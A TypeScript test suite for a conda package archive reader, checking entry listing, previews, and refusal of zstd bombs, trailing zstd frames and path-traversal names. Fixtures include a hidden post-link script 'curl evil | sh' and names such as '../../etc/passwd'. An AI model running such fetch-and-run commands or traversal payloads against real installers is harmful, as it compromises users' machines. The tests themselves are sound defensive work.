import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { zstdCompressSync } from 'node:zlib';
import { readPackageArchive } from '../../../src/artifacts/archive.ts';
import { readCondaArchive } from '../../../src/artifacts/conda-archive.ts';
import { CvebuildError, type ErrorCode } from '../../../src/errors.ts';
import { listing } from '../../helpers/archive-entries.ts';
import { writeTemp } from '../../helpers/temp.ts';
import { zipEntries } from '../../helpers/zip-writer.ts';
import { condaBytes, INDEX_JSON, tarBytes } from './archive-builder.ts';

const STEM = 'demo-1.0-0';
const SCRIPT = '#!/bin/bash\necho "hello from post-link" >> "$PREFIX/.messages.txt"\n';

async function rejects(promise: Promise<unknown>, code: ErrorCode, ...fragments: string[]): Promise<CvebuildError> {
  const error = await promise.then(
    () => assert.fail('expected the archive to be refused'),
    (caught: unknown) => caught,
  );
  assert.ok(error instanceof CvebuildError, `expected a CvebuildError, got ${String(error)}`);
  assert.equal(error.code, code, error.toLine());
  const line = error.toLine();
  assert.ok(!line.includes('\n'), 'one line');
  for (const fragment of fragments) assert.ok(line.includes(fragment), `"${line}" should mention "${fragment}"`);
  return error;
}

describe('readCondaArchive', () => {
  it('lists info and pkg entries and previews the selected ones', async () => {
    const path = writeTemp(
      `${STEM}.conda`,
      condaBytes({
        stem: STEM,
        info: [{ name: 'info/index.json', data: INDEX_JSON('demo') }],
        pkg: [
          { name: 'bin/', type: '5', mode: 0o755 },
          { name: 'bin/.demo-post-link.sh', data: SCRIPT, mode: 0o755 },
          { name: 'lib/libdemo.so', type: '2', linkname: 'libdemo.so.1' },
        ],
      }),
    );
    const { entries, options } = listing({ select: (entry) => entry.path.startsWith('bin/.') });
    const scan = await readCondaArchive(path, options);
    assert.deepEqual(
      entries.map(({ path, type, member }) => `${member}:${type}:${path}`),
      [
        'info:file:info/index.json',
        'pkg:directory:bin',
        'pkg:file:bin/.demo-post-link.sh',
        'pkg:symlink:lib/libdemo.so',
      ],
    );
    assert.equal(entries[2]?.mode, 0o755);
    assert.equal(entries[3]?.linkTarget, 'libdemo.so.1');
    const content = scan.contents.get('bin/.demo-post-link.sh');
    assert.equal(content?.head.toString(), SCRIPT);
    assert.equal(content?.size, Buffer.byteLength(SCRIPT));
    assert.equal(content?.truncated, false);
    assert.match(content?.sha256 ?? '', /^[0-9a-f]{64}$/);
  });

  it('tells device nodes and FIFOs from tar types it does not know, and keeps the unknown ones readable', async () => {
    const path = writeTemp(
      `${STEM}.conda`,
      condaBytes({
        stem: STEM,
        info: [],
        pkg: [
          { name: 'dev/null', type: '3' },
          { name: 'dev/sda', type: '4' },
          { name: 'pipe', type: '6' },
          { name: 'sparse', type: 'S', data: 'S-data' },
          { name: 'control', type: '\u0001', data: 'x' },
        ],
      }),
    );
    const { entries, options } = listing({ select: (entry) => entry.type === 'unknown' });
    const scan = await readCondaArchive(path, options);
    assert.deepEqual(
      entries.map(({ path, type, typeflag }) => `${path}:${type}${typeflag ? `:${typeflag}` : ''}`),
      ['dev/null:special', 'dev/sda:special', 'pipe:special', 'sparse:unknown:S', 'control:unknown:\\x01'],
    );
    // POSIX readers extract an unknown type as a regular file, so its content is read like one.
    assert.equal(scan.contents.get('sparse')?.head.toString(), 'S-data');
  });

  it('tolerates no metadata.json, no pkg member, ./ prefixes, pax names and nested members', async () => {
    const longName = `share/${'deep/'.repeat(30)}file.txt`;
    const path = writeTemp(
      `${STEM}.conda`,
      condaBytes({
        stem: STEM,
        metadata: false,
        nestUnder: 'Users/someone/Downloads/demo-1.0-0/',
        info: [{ name: './info/index.json', data: INDEX_JSON('demo') }],
        pkg: [{ name: 'placeholder', paxPath: longName, data: 'x' }],
      }),
    );
    const { entries, options } = listing();
    await readCondaArchive(path, options);
    assert.deepEqual(
      entries.map((entry) => entry.path),
      ['info/index.json', longName],
    );

    const infoOnly = writeTemp(
      `${STEM}.conda`,
      condaBytes({ stem: STEM, info: [{ name: 'info/index.json', data: '{}' }] }),
    );
    const infoOnlyListing = listing();
    await readPackageArchive(infoOnly, infoOnlyListing.options);
    assert.deepEqual(
      infoOnlyListing.entries.map((entry) => entry.member),
      ['info'],
    );
  });

  it('reads pax records named after Object.prototype members as data', async () => {
    const names = [...new Set([...Object.getOwnPropertyNames(Object.prototype), '__proto__'])];
    const path = writeTemp(
      `${STEM}.conda`,
      condaBytes({
        stem: STEM,
        info: [{ name: 'info/index.json', data: INDEX_JSON('demo') }],
        pkg: [
          { name: 'first', paxRecords: names.map((name) => [name, 'x']), paxPath: 'share/real-name.txt', data: 'a' },
          { name: 'second', paxRecords: names.map((name) => [name, 'y']), data: 'b' },
        ],
      }),
    );
    const { entries, options } = listing();
    await readCondaArchive(path, options);
    assert.deepEqual(
      entries.map((entry) => [entry.path, entry.size]),
      [
        ['info/index.json', INDEX_JSON('demo').length],
        ['share/real-name.txt', 1],
        ['second', 1],
      ],
    );
  });

  it('refuses data after the first zstd frame, which Node would not decode and rattler would install', async () => {
    const first = zstdCompressSync(tarBytes([{ name: 'lib/libdemo.so', data: 'x' }], { endMarker: false }));
    const second = zstdCompressSync(tarBytes([{ name: 'bin/.demo-post-link.sh', data: 'curl evil | sh' }]));
    const path = writeTemp(
      `${STEM}.conda`,
      zipEntries([
        { name: 'metadata.json', data: '{"conda_pkg_format_version": 2}' },
        { name: `pkg-${STEM}.tar.zst`, data: Buffer.concat([first, second]) },
        { name: `info-${STEM}.tar.zst`, data: zstdCompressSync(tarBytes([{ name: 'info/index.json', data: '{}' }])) },
      ]),
    );
    await rejects(readCondaArchive(path), 'ARCHIVE_INVALID', `${second.length} bytes after its first zstd frame`);
  });

  it('keeps only maxReadBytes of a long entry but hashes all of it', async () => {
    const big = `#!/bin/sh\n${'x'.repeat(200_000)}\n`;
    const path = writeTemp(
      `${STEM}.conda`,
      condaBytes({ stem: STEM, info: [], pkg: [{ name: 'bin/.demo-pre-link.sh', data: big }] }),
    );
    const content = (await readCondaArchive(path, { select: () => true })).contents.get('bin/.demo-pre-link.sh');
    assert.equal(content?.head.length, 64 * 1024);
    assert.equal(content?.truncated, true);
    assert.equal(content?.size, big.length);
  });

  it('refuses a zstd bomb: a tiny member expanding far beyond its size', async () => {
    const path = writeTemp(
      `${STEM}.conda`,
      condaBytes({
        stem: STEM,
        info: [],
        pkg: [{ name: 'share/zeros.bin', data: Buffer.alloc(24 * 1024 ** 2) }],
      }),
    );
    await rejects(readCondaArchive(path), 'ARCHIVE_BOMB', path, 'pkg-demo-1.0-0.tar.zst', 'limit maxRatio');
    await rejects(
      readCondaArchive(path, { limits: { maxTotalBytes: 1024 ** 2 } }),
      'ARCHIVE_BOMB',
      'limit maxTotalBytes',
    );
  });

  it('refuses too many entries', async () => {
    const pkg = Array.from({ length: 50 }, (_, i) => ({ name: `f/${i}`, data: '' }));
    const path = writeTemp(`${STEM}.conda`, condaBytes({ stem: STEM, info: [], pkg }));
    await rejects(readCondaArchive(path, { limits: { maxEntries: 40 } }), 'ARCHIVE_BOMB', 'limit maxEntries');
  });

  it('refuses or reports names that escape the prefix', async () => {
    for (const bad of ['../../etc/passwd', '/etc/passwd', 'bin\\..\\..\\evil.bat', 'C:/Windows/evil.bat']) {
      const path = writeTemp(`${STEM}.conda`, condaBytes({ stem: STEM, info: [], pkg: [{ name: bad, data: 'x' }] }));
      await rejects(readCondaArchive(path), 'ARCHIVE_INVALID', path, 'is unsafe');
      const scan = await readCondaArchive(path, { unsafePaths: 'report', select: () => true });
      assert.deepEqual(
        scan.unsafePaths.map((unsafe) => unsafe.path),
        [bad],
      );
      assert.equal(scan.contents.size, 0, 'an unsafe entry is never read');
    }
    const zipLevel = writeTemp(
      `${STEM}.conda`,
      condaBytes({ stem: STEM, info: [], extra: [{ name: '../evil', data: 'x' }] }),
    );
    await rejects(readCondaArchive(zipLevel), 'ARCHIVE_INVALID', 'zip entry "../evil"');
  });

  it('refuses damaged and ambiguous archives with one line', async () => {
    await rejects(readCondaArchive(writeTemp('x.conda', 'not a zip at all')), 'ARCHIVE_INVALID', 'not a readable');
    const notZstd = writeTemp('x.conda', zipEntries([{ name: `pkg-${STEM}.tar.zst`, data: 'plain text' }]));
    await rejects(readCondaArchive(notZstd), 'ARCHIVE_INVALID', 'not a readable tar.zst');
    const cut = tarBytes([{ name: 'a', data: 'x'.repeat(2000) }]).subarray(0, 1024);
    const truncated = writeTemp('x.conda', zipEntries([{ name: `pkg-${STEM}.tar.zst`, data: zstdCompressSync(cut) }]));
    await rejects(readCondaArchive(truncated), 'ARCHIVE_INVALID', 'ends in the middle');
    const notTar = writeTemp(
      'x.conda',
      zipEntries([{ name: `pkg-${STEM}.tar.zst`, data: zstdCompressSync(Buffer.alloc(512, 7)) }]),
    );
    await rejects(readCondaArchive(notTar), 'ARCHIVE_INVALID', 'checksum');
    const twice = writeTemp(
      'x.conda',
      condaBytes({ stem: STEM, info: [], pkg: [], extra: [{ name: `x/pkg-${STEM}.tar.zst`, data: '' }] }),
    );
    await rejects(readCondaArchive(twice), 'ARCHIVE_INVALID', 'ambiguous');
    await rejects(readPackageArchive(writeTemp('x.zip', 'PK')), 'ARCHIVE_INVALID', 'expected .conda or .tar.bz2');
  });
});
